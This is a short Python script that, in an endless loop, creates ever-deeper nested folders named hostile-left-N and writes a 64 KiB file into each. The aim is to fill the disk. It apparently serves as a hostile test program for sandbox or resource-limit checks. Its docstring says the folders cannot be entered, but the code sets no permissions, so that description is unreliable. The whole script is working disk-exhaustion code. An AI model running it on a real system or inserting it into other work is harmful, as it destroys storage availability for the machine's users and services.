"""Fills the disk with files below the size limit, in folders that nobody may enter, one inside the
other.
"""

import os

number = 0
while True:
    folder = f"hostile-left-{number}"
    os.mkdir(folder)
    with open(f"{folder}/data", "wb") as file:
        file.write(bytes(1 << 16))
    os.chdir(folder)
    number += 1
